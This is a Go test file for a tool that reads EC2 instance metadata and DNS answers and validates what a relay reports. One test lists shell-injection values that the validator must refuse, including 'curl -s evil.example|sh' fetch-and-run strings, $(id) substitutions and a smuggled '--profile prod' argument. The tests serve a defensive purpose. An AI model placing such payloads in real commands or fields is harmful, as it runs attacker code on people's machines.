package survey

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"reflect"
	"strings"
	"testing"
)

// instance is the metadata service of one, by the answers that the EC2 User Guide
// shows. It wants IMDSv2.
func instance(t *testing.T, values map[string]string) (url string) {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/latest/api/token":
			if r.Method != http.MethodPut || r.Header.Get(tokenTTLHeader) == "" {
				http.Error(w, "", http.StatusBadRequest)
				return
			}
			_, _ = w.Write([]byte("t0ken"))
		case r.Method != http.MethodGet || r.Header.Get(tokenHeader) != "t0ken":
			http.Error(w, "", http.StatusUnauthorized)
		default:
			value, ok := values[strings.TrimPrefix(r.URL.Path, "/latest/meta-data/")]
			if !ok {
				http.NotFound(w, r)
				return
			}
			_, _ = w.Write([]byte(value))
		}
	}))
	t.Cleanup(s.Close)
	return s.URL
}

const card = "network/interfaces/macs/02:29:96:8f:6a:2d/"

func here() map[string]string {
	return map[string]string{
		"placement/region": "eu-west-1", "instance-id": "i-0123456789abcdef0", "local-ipv4": "10.0.0.10", "mac": "02:29:96:8f:6a:2d",
		card + "vpc-id": "vpc-0abc", card + "subnet-id": "subnet-0abc", card + "security-group-ids": "sg-0abc\nsg-0def",
		"iam/security-credentials/bastion": "SECRET", "tags/instance/Name": "SECRET",
	}
}

func TestPlaceOfAnInstance(t *testing.T) {
	got := Surveyor{Metadata: instance(t, here())}.Survey(t.Context(), "")
	want := Place{"eu-west-1", "i-0123456789abcdef0", "vpc-0abc", "subnet-0abc", []string{"sg-0abc", "sg-0def"}, netip.MustParseAddr("10.0.0.10")}
	if !reflect.DeepEqual(got.Place, want) || got.MetadataError != "" {
		t.Errorf("got %+v, want %+v", got, want)
	}
	text, err := json.Marshal(got)
	if err != nil || strings.Contains(string(text), "SECRET") {
		t.Errorf("told %s, %v", text, err)
	}
}

func TestPlaceOfAnInstanceWithoutIPv4(t *testing.T) {
	values := here()
	delete(values, "local-ipv4")
	values["ipv6"] = "2001:db8::1"
	got := Surveyor{Metadata: instance(t, values)}.Survey(t.Context(), "")
	if got.Place.PrivateAddr != netip.MustParseAddr("2001:db8::1") || got.MetadataError != "" {
		t.Errorf("got %+v", got)
	}
}

// A proxy that the bastion's users have would be another instance.
func TestMetadataIsNotAskedForByAProxy(t *testing.T) {
	proxy := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the proxy was asked") }))
	defer proxy.Close()
	t.Setenv("HTTP_PROXY", proxy.URL)
	got := Surveyor{Metadata: instance(t, here())}.Survey(t.Context(), "")
	if got.Place.VPC != "vpc-0abc" {
		t.Errorf("got %+v", got)
	}
}

func TestNoInstance(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	refusing := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "", http.StatusForbidden) }))
	defer refusing.Close()
	for _, tc := range []struct{ name, url, want string }{
		{"nobody there", "http://" + l.Addr().String(), "no instance metadata: "},
		{"switched off", refusing.URL, "no instance metadata: it answers 403"},
		{"none", "", "not asked for"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Surveyor{Metadata: tc.url}.Survey(t.Context(), "")
			if !strings.HasPrefix(got.MetadataError, tc.want) || !reflect.DeepEqual(got.Place, Place{}) {
				t.Errorf("got %+v, want the error %q", got, tc.want)
			}
		})
	}
}

// asked is a Handler's answer, as Read takes it.
func asked(t *testing.T, h http.Handler, question string) Survey {
	t.Helper()
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, question, nil))
	s, err := Read(w.Body.Bytes())
	if err != nil {
		t.Fatalf("%v: %s", err, w.Body)
	}
	return s
}

func TestNamesAreLookedUpWhereTheyAreAllowed(t *testing.T) {
	const ours, broken = "dynamodb.eu-west-1.amazonaws.com", "dynamodb.eu-west-2.amazonaws.com"
	h := Surveyor{Lookup: func(_ context.Context, name string) ([]netip.Addr, error) {
		if name == broken {
			return nil, errors.New("no such host")
		}
		return []netip.Addr{netip.MustParseAddr("::ffff:10.0.0.53")}, nil
	}}.Handler(func(name string) error {
		if name == ours || name == broken {
			return nil
		}
		return errors.New("not for you")
	})
	if got := asked(t, h, Question(ours)); !reflect.DeepEqual(got.Addresses, []netip.Addr{netip.MustParseAddr("10.0.0.53")}) || got.NameError != "" {
		t.Errorf("got %+v", got)
	}
	if got := asked(t, h, Question(broken)); len(got.Addresses) > 0 || got.NameError != "no such host" {
		t.Errorf("got %+v", got)
	}
	if got := asked(t, h, Question("secret.internal")); len(got.Addresses) > 0 || got.Refused != "not for you" || got.NameError != "" {
		t.Errorf("got %+v", got)
	}
}

func TestReadRefusesWhatIsNoAnswer(t *testing.T) {
	if _, err := Read([]byte("<html>")); err == nil {
		t.Error("an HTML page was taken for a survey")
	}
}

// What a relay says ends up in commands for a person to run.
func TestReadRefusesWhatIsNoPlace(t *testing.T) {
	t.Parallel()
	for _, answer := range []string{
		`{"place":{"region":"eu-west-2; curl -s evil.example|sh #"}}`,
		`{"place":{"region":"a.evil.example"}}`,
		`{"place":{"vpc":"vpc-0abc;curl${IFS}evil.example|sh;"}}`,
		`{"place":{"instance":"i-0abc\n"}}`,
		`{"place":{"subnet":"$(id)"}}`,
		`{"place":{"security_groups":["sg-0","sg-0 --profile prod"]}}`,
		`{"place":{"security_groups":["sg-0"` + strings.Repeat(`,"sg-0"`, 64) + `]}}`,
		`{"place":{"private_addr":"fe80::1%$(id)"}}`,
		`{"addresses":["10.0.0.1","fe80::1%$(id)"]}`,
	} {
		if s, err := Read([]byte(answer)); err == nil {
			t.Errorf("%s: %+v, want it refused", answer, s)
		}
	}
	s, err := Read([]byte(`{"name":"a\u001b[2J","name_error":"x\ny","place":{"region":"eu-west-1","vpc":"vpc-0abc"},"metadata_error":"\u0007"}`))
	if err != nil || s.Name != "a[2J" || s.NameError != "x y" || s.MetadataError != "" || s.Place.VPC != "vpc-0abc" {
		t.Errorf("%+v, %v, want its texts printable", s, err)
	}
}

func FuzzRead(f *testing.F) {
	f.Add([]byte(`{"name":"a","addresses":["10.0.0.53"],"place":{"region":"eu-west-1","private_addr":"10.0.0.10"}}`))
	f.Fuzz(func(t *testing.T, answer []byte) {
		s, err := Read(answer)
		if err != nil {
			return
		}
		text, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		again, err := Read(text)
		if twice, _ := json.Marshal(again); err != nil || string(twice) != string(text) {
			t.Errorf("%s came back as %s, %v", text, twice, err)
		}
	})
}
